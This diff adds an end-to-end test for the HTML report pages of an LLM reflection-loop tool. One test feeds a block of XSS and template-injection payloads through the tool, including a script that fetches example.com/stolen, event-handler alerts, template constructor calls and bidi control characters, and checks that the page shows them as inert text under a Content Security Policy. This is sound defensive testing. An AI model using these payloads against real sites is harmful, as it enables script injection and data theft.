@@ -1,0 +1,290 @@
+import { mkdtempSync, readFileSync, rmSync } from 'node:fs';
+import { tmpdir } from 'node:os';
+import path from 'node:path';
+import { pathToFileURL } from 'node:url';
+import type { Browser, Page } from 'playwright-core';
+import { z } from 'zod';
+import { program } from '../../src/cli';
+import { report as reportCommand } from '../../src/cli/commands/report';
+import { type LoopReport, ReflectionClient, type ReflectionSpec } from '../../src/index';
+import { runReport } from '../../src/contract/results/run-report';
+import type { DevServer } from '../../src/server/dev-server';
+import { ScriptedOpenAI } from '../../src/testing/scripted-model/server';
+import { createWorker, defineAction, type ReflectionWorker } from '../../src/worker';
+import { eventually } from '../../testing/support/eventually';
+import { startPrivateServer } from '../../testing/support/temporal-server';
+import { openBrowser } from './web-ui';
+
+const PROJECT = path.join(__dirname, '..', '..');
+const SCREENSHOT = path.join(PROJECT, 'docs', 'images', 'report.png');
+const PHONE = { width: 360, height: 740 };
+const DESKTOP = { width: 1180, height: 900 };
+
+const DRAFTS = [
+  'Version 2.4 is out.\n\nWe improved many things. Exports are faster. Some problems were fixed.',
+  'Version 2.4 is out.\n\nExports of large tables are four times faster. A crash of the importer was fixed.',
+  'Version 2.4 is out.\n\nExports of tables with more than 10,000 rows are four times faster. The importer no longer crashes on empty files.',
+  'Version 2.4 is out.\n\nExports of tables with more than 10,000 rows are four times faster. The importer no longer crashes on empty files.\n\nUpgrade with `app upgrade`; nothing else changes.',
+];
+const vague = (message: string, severity = 'major') => ({ message, severity, suggestion: 'Name the figures.' });
+const VERDICTS = [
+  {
+    score: 0.35,
+    reason: 'Too vague.',
+    issues: [vague('“many things” says nothing'), vague('No figure for the speed')],
+  },
+  { score: 0.6, reason: 'Better.', issues: [vague('“large tables” has no figure', 'minor')] },
+  { score: 0.85, reason: 'Concrete and short.', issues: [] },
+  { score: 0.95, reason: 'It says how to upgrade, too.', issues: [] },
+].map((one) => ({ suggestions: [], confidence: 0.9, valid: one.score > 0.8, ...one }));
+
+const NOTES: ReflectionSpec = {
+  name: 'release-notes',
+  task: 'Write the release notes of version 2.4 for users, with figures.',
+  generator: { action: 'llm.call', prompt: '{{ task }}' },
+  corrector: { action: 'llm.call', prompt: 'Revise: {{ reflection_output }}' },
+  evaluator: { type: 'llm', prompt: 'Are the notes concrete?' },
+  review: { when: 'on_satisfactory' },
+  maxIterations: 6,
+};
+
+const HOSTILE = [
+  '</pre></style></script><script>document.title = "taken"; fetch("https://example.com/stolen")</script>',
+  '<img src=https://example.com/a.png onerror="document.title = 1"><iframe src="javascript:alert(1)"></iframe>',
+  '<style>@import "https://example.com/a.css";</style><link rel=stylesheet href=//example.com/b.css>',
+  '{{ constructor.constructor("return 1")() }} {% raw %} ${process.exit()} <%= 1 %> #{1} $& $1 &lt;b&gt; <!-- ]]> -->',
+  '\u202egnp.exe \u2066isolated\u2069 \u200b\u0000\u001b[31mred \ufeff\ud800 end',
+  '<form action=https://example.com><button autofocus onfocus=alert(1)>send</button></form>',
+].join('\n');
+
+/** Each version is other text with the same attacks, and large. */
+const attacks = defineAction({
+  name: 'attacks',
+  description: 'Writes what would be harmful in a page.',
+  input: z.unknown(),
+  run: (_input, { iteration }) =>
+    `${HOSTILE}\n${`version ${iteration} of ${iteration * 7} <b>words</b>. `.repeat(6_500)}`,
+});
+const counts = defineAction({
+  name: 'counts',
+  description: 'Gives its iteration.',
+  input: z.unknown(),
+  run: (_input, { iteration }) => ({ iteration }),
+});
+
+describe('the page of a report', () => {
+  let server: DevServer;
+  let model: ScriptedOpenAI;
+  let worker: ReflectionWorker;
+  let working: Promise<void>;
+  let client: ReflectionClient;
+  let browser: Browser;
+  let page: Page;
+  const folder = mkdtempSync(path.join(tmpdir(), 'report-'));
+  const problems: string[] = [];
+  const requests: string[] = [];
+
+  beforeAll(async () => {
+    server = await startPrivateServer();
+    let drafts = 0;
+    let verdicts = 0;
+    model = await ScriptedOpenAI.start({
+      script: ({ text }) => ({ reply: text.includes('judge') ? VERDICTS[verdicts++] : DRAFTS[drafts++] }),
+    });
+    const models = [
+      {
+        name: 'writer',
+        model: 'writer-1',
+        baseUrl: model.baseUrl,
+        prices: { inputPerMillion: 3, outputPerMillion: 15 },
+      },
+    ];
+    worker = await createWorker({ address: server.address, models, actions: [attacks, counts], memory: false });
+    working = worker.run();
+    client = await ReflectionClient.connect({ address: server.address });
+    browser = await openBrowser();
+    page = await browser.newPage({ viewport: DESKTOP });
+    page.on('console', (message) => problems.push(message.text()));
+    page.on('pageerror', (error) => problems.push(error.message));
+    page.on('dialog', (dialog) => void dialog.dismiss().then(() => problems.push('a dialog')));
+    page.on('request', (request) => requests.push(request.url()));
+  }, 60_000);
+  afterAll(async () => {
+    await browser?.close();
+    await client?.close();
+    worker?.shutdown();
+    await working;
+    await model?.close();
+    await server?.stop();
+    rmSync(folder, { recursive: true, force: true });
+  });
+
+  /** Writes the report of a run as the command does, and opens it. */
+  async function open(workflowId: string): Promise<string> {
+    const file = path.join(folder, `${workflowId}.html`);
+    const spy = jest.spyOn(console, 'error').mockImplementation(() => undefined);
+    await reportCommand(workflowId, { html: file, address: server.address });
+    spy.mockRestore();
+    requests.length = 0;
+    const url = pathToFileURL(file).href;
+    await page.goto(url);
+    expect(requests).toEqual([url]);
+    return file;
+  }
+
+  /** Looks at the page as it is on a desktop and on a phone, light and dark; pictures of it in `PICTURES`, where that is set. */
+  async function looks(name: string): Promise<void> {
+    const { PICTURES } = process.env;
+    for (const colorScheme of ['light', 'dark'] as const) {
+      for (const viewport of [DESKTOP, PHONE]) {
+        await page.emulateMedia({ colorScheme });
+        await page.setViewportSize(viewport);
+        const color = await page.evaluate('getComputedStyle(document.body).backgroundColor');
+        expect(color === 'rgb(255, 255, 255)').toBe(colorScheme === 'light');
+        expect(await page.evaluate('document.documentElement.scrollWidth')).toBe(viewport.width);
+        const file = `${name}-${colorScheme}-${viewport.width}.png`;
+        if (PICTURES !== undefined) await page.screenshot({ path: path.join(PICTURES, file), fullPage: true });
+      }
+    }
+    await page.emulateMedia({ colorScheme: 'light' });
+    await page.setViewportSize(DESKTOP);
+  }
+
+  test('tells of a run under way and at its end: scores, changes, issues, people, and tokens by role', async () => {
+    const { workflowId } = await client.start(NOTES, { workflowId: 'release-notes-2.4' });
+    const waits = (iteration: number) =>
+      eventually(
+        () => client.progress(workflowId),
+        (progress) => progress.phase === 'waiting' && progress.iteration === iteration,
+      );
+    await waits(3);
+    await open(workflowId);
+    expect(await page.locator('.notice').innerText()).toContain('Waits for a person');
+    await client.guide(workflowId, { text: 'Say how to upgrade.', by: 'Robin' });
+    await waits(4);
+    const underWay = (await client.report(workflowId)) as LoopReport;
+    expect(underWay).toMatchObject({ phase: 'waiting', versions: { length: 4 }, bestIteration: 4 });
+    expect(underWay.actions).toMatchObject([
+      { name: 'guide', by: 'Robin', words: 'Say how to upgrade.', applied: true },
+    ]);
+    await client.accept(workflowId, { iteration: 4, by: 'Robin', reason: 'Clear now.' });
+    const result = await client.result(workflowId);
+    const report = await client.report(workflowId);
+    expect(runReport.safeParse(report)).toMatchObject({ success: true });
+    // Nothing is left for `other`: the histories have every call.
+    expect(report.roles.map(({ role, tokenUsage }) => [role, tokenUsage.modelCalls])).toEqual([
+      ['generator', 1],
+      ['evaluators', 4],
+      ['corrector', 3],
+    ]);
+    expect(report.roles.reduce((sum, { tokenUsage }) => sum + tokenUsage.totalTokens, 0)).toBe(
+      result.tokenUsage.totalTokens,
+    );
+    // The example of the docs.
+    const [, example = ''] = /npx (reflect report release-notes-2\.4 .*)/.exec(
+      readFileSync(path.join(PROJECT, 'docs', 'reports.md'), 'utf8'),
+    )!;
+    await program(() => undefined).parseAsync(['node', ...example.split(' '), '--address', server.address]);
+    const made = path.resolve('report.html');
+    await page.goto(pathToFileURL(made).href);
+    rmSync(made);
+    const text = await page.locator('body').innerText();
+    for (const told of [
+      'succeeded: user_accepted',
+      'Clear now.',
+      'Say how to upgrade.',
+      'Fixed (3)',
+      'version 4, 0.95',
+    ])
+      expect(text).toContain(told);
+    expect(await page.locator('svg circle:not(.best)').count()).toBe(4);
+    expect(await page.locator('details[open] ins').allInnerTexts()).toEqual([expect.stringContaining('app upgrade')]);
+    // A keyboard opens the next one.
+    await page.locator('summary').nth(1).focus();
+    await page.keyboard.press('Enter');
+    expect(await page.locator('details').nth(1).locator('del').allInnerTexts()).toContain('large ');
+    await looks('report');
+    await page.evaluate('document.activeElement.blur(); scrollTo(0, 0)');
+    const picture = await page.screenshot(process.env['UPDATE_SCREENSHOTS'] === '1' ? { path: SCREENSHOT } : {});
+    expect(picture.byteLength).toBeGreaterThan(10_000);
+    await page.emulateMedia({ media: 'print', colorScheme: 'dark' });
+    expect(await page.evaluate('getComputedStyle(document.body).backgroundColor')).toBe('rgb(255, 255, 255)');
+    expect(await page.locator('pre.text', { hasText: 'many things' }).first().isVisible()).toBe(true);
+    await page.emulateMedia({ media: null });
+    expect(problems).toEqual([]);
+  }, 90_000);
+
+  test('shows hostile text as text, and asks for nothing', async () => {
+    const { workflowId } = await client.start(
+      {
+        name: HOSTILE.slice(0, 90),
+        // A task is a template, which this part of the text would break.
+        task: HOSTILE.replace(/\{\{.*/, ''),
+        generator: { action: 'attacks' },
+        evaluator: { type: 'regex', pattern: '^never$', message: HOSTILE.slice(0, 300) },
+        maxIterations: 2,
+      } as ReflectionSpec,
+      { workflowId: 'hostile' },
+    );
+    await client.result(workflowId);
+    const file = await open(workflowId);
+    expect(await page.title()).toMatch(/^<\/pre><\/style><\/script><script>.* – report$/);
+    expect(await page.locator('script, img, iframe, link, form, button, b').count()).toBe(0);
+    const shown = await page.locator('section pre.text').last().innerText();
+    const head = shown.slice(0, 2_000);
+    for (const line of HOSTILE.split('\n').filter((_, index) => index !== 4)) expect(head).toContain(line);
+    expect(head).toContain('⟦U+202E⟧gnp.exe ⟦U+2066⟧isolated⟦U+2069⟧ ⟦U+200B⟧⟦U+0000⟧⟦U+001B⟧[31mred ⟦U+FEFF⟧');
+    expect(head).toContain('version 1 of 7 <b>words</b>.');
+    expect(shown.length).toBeGreaterThan(180_000);
+    // Too many words changed: lines are compared.
+    expect((await page.locator('ins').first().innerText()).slice(0, 28)).toBe('version 2 of 14 <b>words</b>');
+    const written = readFileSync(file, 'utf8');
+    for (const unwanted of ['\u202e', '\u2066', '\u0000', '\u001b', '<script'])
+      expect(written.includes(unwanted)).toBe(false);
+    await looks('hostile');
+    expect(problems).toEqual([]);
+    // The policy holds: what a mistake of ours would let through does nothing.
+    await page.evaluate(`document.body.insertAdjacentHTML('beforeend', '<img src="https://example.com/x.png">')`);
+    await eventually(
+      () => Promise.resolve(problems.splice(0)),
+      (found) => found.some((problem) => problem.includes('Content Security Policy')),
+    );
+  }, 90_000);
+
+  test('tells of a chain of runs as of one, and of a plan', async () => {
+    const chain = await client.start(
+      {
+        generator: { action: 'counts' },
+        evaluator: { type: 'schema', schema: { type: 'object', required: ['missing'] } },
+        maxIterations: 60,
+        convergence: false,
+      },
+      { workflowId: 'chain' },
+    );
+    await client.result(chain.workflowId);
+    const report = (await client.report(chain.workflowId)) as LoopReport;
+    expect(report).toMatchObject({ runs: 2, status: 'COMPLETED', success: false, convergenceReason: 'max_iterations' });
+    expect(report.versions.map(({ output }) => output)).toEqual(
+      Array.from({ length: 60 }, (_, index) => ({ iteration: index + 1 })),
+    );
+    await open(chain.workflowId);
+    await looks('chain');
+    const plan = {
+      id: 'p',
+      tasks: [
+        { id: 'collect', description: 'Collect the figures', step: { action: 'counts' } },
+        { id: 'write', description: 'Write <it>', dependsOn: ['collect'], step: { action: 'attacks' } },
+      ],
+    };
+    await client.runPlan({ goal: 'Publish & <print> it', enableLlmReflection: false, plan }, { workflowId: 'plan' });
+    await open('plan');
+    const text = await page.locator('body').innerText();
+    for (const told of ['Publish & <print> it', 'Write <it>', '2 of 2 succeeded', '✓ succeeded'])
+      expect(text).toContain(told);
+    await looks('plan');
+    await expect(client.report('no-such-run')).rejects.toMatchObject({ type: 'RunNotFound' });
+    const { workflowId } = await client.startEvaluation({ evaluator: { type: 'regex', pattern: 'x' }, data: 'x' });
+    await expect(client.report(workflowId)).rejects.toMatchObject({ type: 'NoReport' });
+    expect(problems).toEqual([]);
+  }, 90_000);
+});
